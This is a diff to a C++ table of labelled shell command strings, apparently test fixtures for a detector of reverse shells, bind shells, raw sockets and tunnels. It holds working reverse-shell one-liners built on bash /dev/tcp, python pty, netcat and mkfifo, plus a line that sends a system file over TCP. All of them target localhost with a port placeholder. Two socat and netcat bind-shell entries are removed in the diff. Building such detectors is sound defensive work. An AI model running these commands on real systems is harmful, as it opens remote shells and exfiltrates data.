@@ -16,7 +16,7 @@ const std::vector<Form>& shell_forms() {
        "bash -c 'exec sh -c : <>/dev/udp/127.0.0.1/PORT >&0 2>&0'"},
       {"commands only", "reverse_shell", "bash -c 'exec sh </dev/tcp/127.0.0.1/PORT >/dev/null'"},
       {"a file by redirection", "reverse_shell",
-       "bash -c 'cat /etc/hostname >/dev/tcp/127.0.0.1/PORT'"},
+       "bash -c 'cat </etc/hostname >/dev/tcp/127.0.0.1/PORT'"},
       {"python, a terminal", "reverse_shell relayed_shell",
        "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',PORT));"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')\""},
@@ -73,12 +73,6 @@ const std::vector<Form>& shell_forms() {
        "rm -f /tmp/q4;mkfifo /tmp/q4;nc.traditional 127.0.0.1 PORT </tmp/q4 | script -qc sh "
        "/dev/null "
        ">/tmp/q4"},
-      {"socat hands out a shell", "bind_shell",
-       "socat TCP-LISTEN:4999,reuseaddr,bind=127.0.0.1 EXEC:sh,nofork & until echo exit | "
-       "nc.traditional -q 1 127.0.0.1 4999; do :; done"},
-      {"netcat hands out a shell", "bind_shell",
-       "nc.traditional -l -p 4998 -e /bin/sh & until echo exit | nc.traditional -q 1 127.0.0.1 "
-       "4998; do :; done"},
       {"pings that carry", "raw_socket",
        "python3 -c \"import socket;socket.socket(socket.AF_INET,socket.SOCK_RAW,1)\""},
       {"a port handed out", "reverse_tunnel",
